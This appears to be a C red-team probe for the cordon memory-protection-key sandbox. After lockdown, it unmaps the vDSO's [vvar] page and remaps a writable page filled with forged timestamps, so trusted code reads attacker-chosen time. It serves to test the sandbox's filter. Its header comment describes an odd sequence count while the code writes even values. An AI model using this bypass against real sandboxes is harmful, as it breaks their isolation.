// Probe: the vDSO's data page ([vvar]) is neither code nor a file's
// read-only data, so the lockdown's filter lets untrusted code unmap it and
// map its own page there: every clock_gettime()/gettimeofday() in the process,
// trusted code's included, then reads time data the attacker wrote (here a
// sequence count that stays odd, so the vDSO spins; other values give any time).
//
//   tools/cordon-pku-run --kernel 6.1 -- build/redteam/vvar_remap
#define _GNU_SOURCE
#include <cordon/cordon.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>

int main(void) {
  cordon_options o;
  cordon_options_init(&o);
  if (cordon_init(&o) != 0 || cordon_lockdown() != 0) { printf("init/lockdown failed\n"); return 1; }
  FILE* f = fopen("/proc/self/maps", "r");
  char line[512];
  unsigned long a = 0, b = 0;
  while (fgets(line, sizeof line, f)) {
    if (strstr(line, "[vvar]")) { sscanf(line, "%lx-%lx", &a, &b); break; }
  }
  fclose(f);
  if (a == 0) { printf("no [vvar]\n"); return 1; }
  struct timespec ts;
  clock_gettime(CLOCK_REALTIME, &ts);
  const long long before = ts.tv_sec;
  printf("[vvar] %#lx-%#lx; time before: %lld\n", a, b, before);
  int r = munmap((void*)a, b - a);
  printf("munmap([vvar]): %d %s\n", r, r ? strerror(errno) : "");
  void* p = mmap((void*)a, b - a, PROT_READ | PROT_WRITE, MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  printf("mmap(MAP_FIXED) over it: %p %s\n", p, p == MAP_FAILED ? strerror(errno) : "");
  if (p == MAP_FAILED) return 1;
  // Every 16 bytes {sec = 12344, nsec = 0}: an even sequence count, and each
  // vdso_timestamp (basetime[], 16-aligned) reads 12344 seconds.
  for (uint64_t* q = p; (char*)q < (char*)p + (b - a); q += 2) { q[0] = 12344; q[1] = 0; }
  clock_gettime(CLOCK_REALTIME_COARSE, &ts);
  printf("after: CLOCK_REALTIME_COARSE %lld, time() %lld (real time was %lld: %s)\n", (long long)ts.tv_sec,
         (long long)time(NULL), (long long)before, ts.tv_sec + 5 < before ? "FORGED by the attacker page" : "real");
  return 0;
}
